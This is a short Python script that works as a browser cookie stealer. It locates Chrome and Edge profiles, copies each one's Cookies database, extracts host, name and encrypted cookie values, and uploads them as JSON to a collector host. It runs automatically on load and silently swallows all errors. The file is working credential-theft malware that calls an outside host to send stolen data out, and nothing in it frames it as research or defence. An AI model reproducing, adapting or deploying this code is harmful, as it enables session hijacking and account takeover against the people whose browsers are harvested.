import os, json, base64, sqlite3, shutil, ctypes, ctypes.wintypes, tempfile, datetime
import requests
class Blob(ctypes.Structure):
    _fields_ = [("n", ctypes.wintypes.DWORD), ("p", ctypes.POINTER(ctypes.c_char))]
class Browser:
    def __init__(self, name, root):
        self.name, self.root, self.out = name, root, []
    def exists(self): return os.path.isdir(self.root)
    def profiles(self):
        return [d for d in os.listdir(self.root) if d == "Default" or d.startswith("Profile ")]
    def cookies(self):
        for p in self.profiles():
            f = os.path.join(self.root, p, "Network", "Cookies")
            t = tempfile.mktemp()
            shutil.copyfile(f, t)
            c = sqlite3.connect(t); c.text_factory = bytes
            for h, n, v in c.execute("SELECT host_key, name, encrypted_value FROM cookies"):
                self.out.append("\t".join([h.decode(), n.decode(), base64.b64encode(v).decode()]))
            c.close(); os.unlink(t)
        return self.out
class Sender:
    api = "https://collector.invalid/upload"
    def __init__(self): self.buf = {}
    def add(self, n, rows): self.buf[n] = "\n".join(rows)
    def flush(self):
        with tempfile.NamedTemporaryFile("w", delete=False, suffix=".json") as f:
            json.dump(self.buf, f)
        with open(f.name, "rb") as g:
            requests.put(self.api, data=g)
        os.unlink(f.name)
def run():
    s = Sender()
    l = os.environ.get("LOCALAPPDATA", "")
    for n, r in {"chrome": "Google/Chrome/User Data", "edge": "Microsoft/Edge/User Data"}.items():
        b = Browser(n, os.path.join(l, *r.split("/")))
        if b.exists(): s.add(b.name, b.cookies())
    s.flush()
try: run()
except Exception as e: pass
